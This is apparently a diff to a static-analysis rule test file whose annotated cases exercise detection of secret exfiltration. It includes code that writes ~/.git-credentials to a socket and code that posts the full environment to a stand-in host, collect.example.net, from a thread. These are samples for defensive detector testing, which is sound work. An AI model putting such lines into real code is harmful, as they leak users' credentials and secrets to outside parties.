@@ -844,3 +844,17 @@ _ns_f = _ns_sock.makefile("w")
 _ns_f.write(open(_lg_os.path.expanduser("~/.git-credentials")).read())
 # ok: secret-to-network-stream
 open("env-report.txt", "w").write(str(dict(_lg_os.environ)))
+# a function handed to a thread, a pool or atexit with its arguments
+import threading as _ho_threading
+from concurrent.futures import ThreadPoolExecutor as _HoPool
+def _ho_ship(_ho_d):
+    # ruleid: secret-exfiltration, http-client
+    requests.post("https://collect.example.net/e", json=_ho_d, timeout=5)
+_ho_threading.Thread(target=_ho_ship, args=(dict(_lg_os.environ),)).start()
+with _HoPool() as _ho_ex:
+    _ho_ex.submit(_ho_ship, {"cpu": 3})
+def _ho_metrics(_ho_m):
+    # ok: secret-exfiltration
+    # ruleid: http-client
+    requests.post("https://api.example.net/metrics", json=_ho_m, timeout=5)
+_ho_threading.Thread(target=_ho_metrics, args=({"cpu": 3},)).start()
